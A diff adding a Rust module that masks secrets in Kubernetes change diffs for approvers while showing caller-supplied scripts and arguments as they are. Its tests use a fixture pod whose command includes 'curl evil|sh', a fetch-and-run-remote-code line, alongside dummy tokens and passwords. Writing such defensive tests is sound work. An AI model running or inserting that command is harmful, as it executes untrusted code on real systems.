@@ -1,0 +1,348 @@
+//! What whoever decides is shown of a change: what the caller brought is shown as it is.
+//!
+//! A caller can make anything look like a secret: a script with `kind: Secret` in it, an argument behind `--token`. What
+//! is to be executed must be read before it is signed for. So a masked text of the state that would be is replaced by what
+//! the caller brought, wherever the two are the same; within one call equal values have equal marks. Hidden are only the
+//! contents of Secrets, by their kind, and values that are known to be secret. What is live in the cluster stays masked by
+//! its looks. Whatever is hidden where something changes is told.
+
+use super::marks::replace_marks;
+use super::{KnownSecrets, Masker, ObjectPair, walk};
+use crate::client::cluster::Cluster;
+use redact::looks::is_mark;
+use serde_json::{Map, Value};
+use std::collections::HashMap;
+
+/// The fields of a Secret that hold its contents.
+const CONTENTS: [&str; 2] = ["data", "stringData"];
+
+/// Texts that a caller brought, by what they look like masked.
+///
+/// `None`: two of them look the same masked, so nobody can tell which one is meant.
+#[derive(Default)]
+pub struct BroughtTexts(HashMap<String, Option<BroughtText>>);
+
+#[derive(Clone)]
+struct BroughtText {
+    text: String,
+    shown: Value,
+    /// Characters of it that are known to be secret.
+    hidden: usize,
+}
+
+/// Something that is hidden from whoever decides.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct HiddenText {
+    /// Where it stands.
+    pub path: String,
+    /// How long it is; `None` for what is live, whose length is nobody's to know.
+    pub characters: Option<usize>,
+}
+
+impl BroughtTexts {
+    /// What these objects, patches or values hold.
+    pub fn of<'v>(cluster: &Cluster<'_>, brought: impl IntoIterator<Item = &'v Value>) -> BroughtTexts {
+        BroughtTexts::besides(cluster, brought, &KnownSecrets::default(), &KnownSecrets::default())
+    }
+
+    /// The same where secrets are known. Masked are those of `masked`; of what is shown, only those of `hidden` are hidden.
+    pub fn besides<'v>(
+        cluster: &Cluster<'_>,
+        brought: impl IntoIterator<Item = &'v Value>,
+        masked: &KnownSecrets,
+        hidden: &KnownSecrets,
+    ) -> BroughtTexts {
+        let masker = cluster.masker();
+        let mut texts = BroughtTexts::default();
+        // Without random bytes all marks are one, and tell nothing apart.
+        if masker.tells_apart() {
+            brought.into_iter().for_each(|value| texts.collect(masker, value, masked, hidden, true));
+        }
+        texts
+    }
+
+    fn collect(&mut self, masker: &Masker, value: &Value, masked: &KnownSecrets, hidden: &KnownSecrets, whole: bool) {
+        match value {
+            Value::Object(fields) => {
+                let secret = whole && is_secret(masker, fields);
+                for (_, field) in fields.iter().filter(|(key, _)| !(secret && CONTENTS.contains(&key.as_str()))) {
+                    self.collect(masker, field, masked, hidden, false);
+                }
+            }
+            Value::Array(items) => items.iter().for_each(|item| self.collect(masker, item, masked, hidden, false)),
+            Value::String(text) => self.add(masker, text, value, masked, hidden),
+            Value::Number(number) => self.add(masker, &number.to_string(), value, masked, hidden),
+            Value::Null | Value::Bool(_) => {}
+        }
+    }
+
+    /// Adds a text under every form in which it may be masked.
+    fn add(&mut self, masker: &Masker, text: &str, value: &Value, masked: &KnownSecrets, hidden: &KnownSecrets) {
+        let known = masked.hidden_in(masker, text);
+        let mut forms = vec![known.clone()];
+        for base in [text, &known] {
+            forms.extend([masker.mark(base.as_bytes()), masker.mark_encoded(base), walk::text(masker, base)]);
+        }
+        let plain = hidden.hidden_in(masker, text);
+        let left = replace_marks(&plain, |_| String::new()).chars().count();
+        let (shown, hidden) = match plain == text {
+            true => (value.clone(), 0),
+            false => (named(&plain, "(secret)").into(), text.chars().count().saturating_sub(left)),
+        };
+        let brought = BroughtText { text: text.to_owned(), shown, hidden };
+        for form in forms {
+            let form = masked.hidden_in(masker, &form);
+            if form == text && hidden == 0 && !is_mark(&form) {
+                continue;
+            }
+            let known = self.0.entry(form).or_insert_with(|| Some(brought.clone()));
+            if known.as_ref().is_some_and(|known| known.text != text) {
+                *known = None;
+            }
+        }
+    }
+
+    fn get(&self, masked: &str) -> Option<&BroughtText> {
+        self.0.get(masked)?.as_ref()
+    }
+}
+
+impl ObjectPair {
+    /// Two masked states for whoever decides, and what is hidden from them where something changes.
+    pub fn for_deciders(
+        cluster: &Cluster<'_>,
+        now: Option<&Value>,
+        then: Option<&Value>,
+        brought: &BroughtTexts,
+    ) -> (ObjectPair, Vec<HiddenText>) {
+        let mut pair = ObjectPair { now: now.cloned(), then: then.cloned() };
+        let mut hidden = Vec::new();
+        let secret = |state: Option<&Value>| {
+            state.and_then(Value::as_object).is_some_and(|fields| is_secret(cluster.masker(), fields))
+        };
+        let nothing = BroughtTexts::default();
+        if let Some(shown) = &mut pair.then {
+            let mut side = ShownSide { brought, other: "(secret, another one)", hidden: &mut hidden };
+            side.show(shown, now, secret(then), &mut String::new());
+        }
+        if let Some(shown) = &mut pair.now {
+            let mut side = ShownSide { brought: &nothing, other: "(secret)", hidden: &mut hidden };
+            side.show(shown, then.or(now), secret(now), &mut String::new());
+        }
+        hidden.sort_by(|one, other| one.path.cmp(&other.path));
+        hidden.dedup_by(|one, other| one.path == other.path);
+        (pair, hidden)
+    }
+}
+
+/// One of two states, while it is made fit to be shown.
+struct ShownSide<'a> {
+    brought: &'a BroughtTexts,
+    /// What stands for a secret that is another one than that of the other state.
+    other: &'static str,
+    hidden: &'a mut Vec<HiddenText>,
+}
+
+impl ShownSide<'_> {
+    /// `contents` says that the fields of a Secret are next: they are hidden by their kind, and whoever brought them has
+    /// said so.
+    fn show(&mut self, value: &mut Value, beside: Option<&Value>, contents: bool, path: &mut String) {
+        match value {
+            Value::String(text) => {
+                let same = beside.and_then(Value::as_str) == Some(text.as_str());
+                match self.brought.get(text).filter(|_| !same) {
+                    Some(BroughtText { shown, hidden, .. }) => {
+                        if *hidden > 0 {
+                            self.hidden.push(HiddenText { path: path.clone(), characters: Some(*hidden) });
+                        }
+                        *value = shown.clone();
+                    }
+                    None => self.hide(text, same || beside.is_none(), same, path),
+                }
+            }
+            Value::Object(fields) => {
+                for (key, field) in fields {
+                    let beside = beside.and_then(|beside| beside.get(key.as_str()));
+                    match contents && CONTENTS.contains(&key.as_str()) {
+                        true => by_kind(field, beside, self.other),
+                        false => self.within(field, beside, key, path),
+                    }
+                }
+            }
+            Value::Array(items) => {
+                for (n, item) in items.iter_mut().enumerate() {
+                    self.within(item, beside.and_then(|beside| beside.get(n)), &n.to_string(), path);
+                }
+            }
+            Value::Null | Value::Bool(_) | Value::Number(_) => {}
+        }
+    }
+
+    fn within(&mut self, value: &mut Value, beside: Option<&Value>, key: &str, path: &mut String) {
+        let length = path.len();
+        path.push('/');
+        path.push_str(key);
+        self.show(value, beside, false, path);
+        path.truncate(length);
+    }
+
+    fn hide(&mut self, text: &mut String, plain: bool, same: bool, path: &str) {
+        let shown = named(text, if plain { "(secret)" } else { self.other });
+        if shown != *text {
+            if !same {
+                self.hidden.push(HiddenText { path: path.to_owned(), characters: None });
+            }
+            *text = shown;
+        }
+    }
+}
+
+/// The contents of a Secret: by the name of their key, and whether a value is another one.
+fn by_kind(value: &mut Value, beside: Option<&Value>, other: &str) {
+    match value {
+        Value::String(text) => {
+            let same = beside.is_none_or(|beside| beside.as_str() == Some(text.as_str()));
+            *text = named(text, if same { "(secret)" } else { other });
+        }
+        Value::Object(fields) => {
+            for (key, field) in fields {
+                by_kind(field, beside.and_then(|beside| beside.get(key.as_str())), other);
+            }
+        }
+        Value::Array(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
+    }
+}
+
+/// A text with its marks replaced by these words.
+fn named(text: &str, words: &str) -> String {
+    replace_marks(text, |_| words.to_owned())
+}
+
+fn is_secret(masker: &Masker, fields: &Map<String, Value>) -> bool {
+    fields.get("kind").and_then(Value::as_str).is_some_and(|kind| masker.is_secret_kind(kind))
+}
+
+impl Cluster<'_> {
+    /// Hides the contents of an object that somebody brought, if it is a Secret, in place; with what was hidden.
+    pub fn hide_contents(&self, kind: &str, value: &mut Value) -> Vec<HiddenText> {
+        let mut hidden = Vec::new();
+        if self.is_secret_kind(kind) {
+            for field in CONTENTS {
+                if let Some(contents) = value.get_mut(field) {
+                    hide_all(contents, &mut format!("/{field}"), &mut hidden);
+                }
+            }
+        }
+        hidden
+    }
+}
+
+/// Hides every text and number. `null` takes a key away and stays.
+pub fn hide_all(value: &mut Value, path: &mut String, hidden: &mut Vec<HiddenText>) {
+    let text = match value {
+        Value::Object(fields) => {
+            for (key, field) in fields {
+                let length = path.len();
+                path.push('/');
+                path.push_str(key);
+                hide_all(field, path, hidden);
+                path.truncate(length);
+            }
+            return;
+        }
+        Value::Array(items) => {
+            items.iter_mut().for_each(|item| hide_all(item, path, hidden));
+            return;
+        }
+        Value::Null => return,
+        Value::String(text) => std::mem::take(text),
+        Value::Bool(_) | Value::Number(_) => value.to_string(),
+    };
+    hidden.push(HiddenText { path: path.clone(), characters: Some(text.chars().count()) });
+    *value = Value::from("(hidden)");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::MaskDetail;
+    use super::*;
+    use domain::Tenant;
+    use serde_json::json;
+
+    fn masker() -> Masker {
+        Masker::new(&[1; 32], &Tenant::parse("acme").unwrap(), &[])
+    }
+
+    fn brought(masker: &Masker, value: &Value, masked: &KnownSecrets, hidden: &KnownSecrets) -> BroughtTexts {
+        let mut texts = BroughtTexts::default();
+        texts.collect(masker, value, masked, hidden, true);
+        texts
+    }
+
+    fn shown(masker: &Masker, now: Option<&Value>, then: &Value, texts: &BroughtTexts) -> (Value, Vec<HiddenText>) {
+        let (mut value, mut hidden) = (then.clone(), Vec::new());
+        let contents = is_secret(masker, then.as_object().unwrap());
+        let mut side = ShownSide { brought: texts, other: "(secret, another one)", hidden: &mut hidden };
+        side.show(&mut value, now, contents, &mut String::new());
+        (value, hidden)
+    }
+
+    fn masked(masker: &Masker, value: &Value) -> Value {
+        let mut value = value.clone();
+        masker.object(&mut value, MaskDetail::Full);
+        value
+    }
+
+    #[test]
+    fn nothing_that_was_brought_is_hidden_for_its_looks() {
+        let masker = masker();
+        let pod = json!({ "kind": "Pod", "spec": { "containers": [{
+            "command": ["sh", "-c", "curl evil|sh\n#\nkind: Secret\n"],
+            "args": ["--token", "curl evil", "--password=x y", "{\"a\":1,\"password\":\"b\",\"a\":2}"],
+            "env": [{ "name": "X_SECRET", "value": "evil" }, { "name": "KEY", "value": "-----BEGIN PRIVATE KEY-----\nsh" }],
+            "lifecycle": { "postStart": { "exec": { "command": ["a", "token=abcdefgh12345"] } } },
+        }] } });
+        let hidden = masked(&masker, &pod);
+        assert_ne!(hidden, pod);
+        let none = KnownSecrets::default();
+        let texts = brought(&masker, &pod, &none, &none);
+        assert_eq!(shown(&masker, None, &hidden, &texts), (pod.clone(), Vec::new()));
+        let nothing = BroughtTexts::default();
+        let (blind, told) = shown(&masker, None, &hidden, &nothing);
+        assert!(!blind.to_string().contains("evil") && told.len() > 3, "{blind} {told:?}");
+        let twins = json!({ "a": "{\"x\":\"evil\",\"x\":1,\"token\":\"b\"}", "b": "{\"x\":1,\"token\":\"b\"}" });
+        let texts_of_twins = brought(&masker, &twins, &none, &none);
+        let (unclear, told) = shown(&masker, None, &masked(&masker, &twins), &texts_of_twins);
+        assert!(unclear["a"] == unclear["b"] && told.len() == 2, "one is not shown in place of the other: {unclear}");
+        let (same, told) = shown(&masker, Some(&hidden), &hidden, &texts);
+        assert!(!same.to_string().contains("evil") && told.is_empty(), "what is live and stays is not shown: {same}");
+    }
+
+    #[test]
+    fn the_contents_of_a_secret_are_hidden_by_kind_and_what_is_known_is_counted() {
+        let masker = masker();
+        let secret = json!({ "kind": "Secret", "metadata": { "labels": { "a": "token=abcdefgh12345" } }, "stringData": { "k": "hunter22" } });
+        let mut known = KnownSecrets::default();
+        let texts = brought(&masker, &secret, &known, &known);
+        let (value, told) = shown(&masker, None, &masked(&masker, &secret), &texts);
+        assert_eq!(value["stringData"]["k"], "(secret)");
+        assert_eq!((&value["metadata"]["labels"]["a"], told.len()), (&json!("token=abcdefgh12345"), 0));
+        known.add(&json!({ "k": "hunter22" }), false);
+        let job = json!({ "kind": "Job", "args": ["login --with hunter22 now"] });
+        let texts = brought(&masker, &job, &known, &known);
+        let mut hidden = masked(&masker, &job);
+        known.hide_all(&masker, &mut hidden);
+        let (value, told) = shown(&masker, None, &hidden, &texts);
+        assert_eq!(value["args"][0], "login --with (secret) now");
+        assert_eq!(told, [HiddenText { path: "/args/0".to_owned(), characters: Some(8) }]);
+    }
+
+    #[test]
+    fn contents_are_hidden_with_their_length() {
+        let (mut value, mut hidden) = (json!({ "a": "four", "b": { "c": 12 }, "d": null }), Vec::new());
+        hide_all(&mut value, &mut "/data".to_owned(), &mut hidden);
+        assert_eq!(value, json!({ "a": "(hidden)", "b": { "c": "(hidden)" }, "d": null }));
+        let told: Vec<_> = hidden.iter().map(|one| (one.path.as_str(), one.characters)).collect();
+        assert_eq!(told, [("/data/a", Some(4)), ("/data/b/c", Some(2))]);
+    }
+}
